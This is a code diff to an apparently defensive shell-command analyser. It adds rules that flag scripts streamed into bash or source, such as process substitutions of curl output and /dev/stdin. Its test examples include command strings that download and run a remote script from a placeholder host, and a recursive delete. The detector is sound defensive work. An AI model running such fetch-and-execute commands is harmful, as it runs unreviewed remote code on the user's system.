@@ -38,6 +38,7 @@ export const OPAQUE_RULES: readonly OpaqueRule[] = [
     detect: detectShell,
     note: "-c runs its first operand as a script; no operand (or -s) reads the script from stdin",
     match: [
+      "bash <(curl -s https://x.example/i.sh)",
       "bash -c 'rm -rf build'",
       'sh -c "$CMD"',
       "bash -lc 'git push'",
@@ -52,6 +53,16 @@ export const OPAQUE_RULES: readonly OpaqueRule[] = [
       "bash --version",
       "bash -x deploy.sh",
     ],
+  },
+  {
+    names: ["source", "."],
+    detect: (words) => {
+      const operand = words.slice(1).find((word) => word.text !== "--");
+      return streamedScript(operand) ? { script: null } : null;
+    },
+    note: "source of a stream (a process substitution, stdin) runs code nobody can read first",
+    match: ["source <(curl -s https://x.example/i.sh)", ". /dev/stdin", 'source "$RC"'],
+    notMatch: ["source .venv/bin/activate", ". ./env.sh"],
   },
   {
     names: ["eval"],
@@ -187,7 +198,17 @@ function detectShell(words: readonly Word[], _stdinFed: boolean): OpaqueHit | nu
   }
   if (info) return null;
   if (stdinMode || i >= words.length) return { script: null, readsStdin: recursive };
-  return null;
+  return streamedScript(words[i]) ? { script: null } : null;
+}
+
+/**
+ * A script operand that is a stream rather than a file the user can read: a process
+ * substitution (`bash <(curl …)`), stdin or a descriptor, or a computed name.
+ */
+function streamedScript(word: Word | undefined): boolean {
+  if (word === undefined) return false;
+  if (word.processSubstitution || !word.literal) return true;
+  return /^\/dev\/(stdin|fd\/\d+)$|^\/proc\/self\/fd\/\d+$/.test(word.text);
 }
 
 function detectTrap(words: readonly Word[]): OpaqueHit | null {
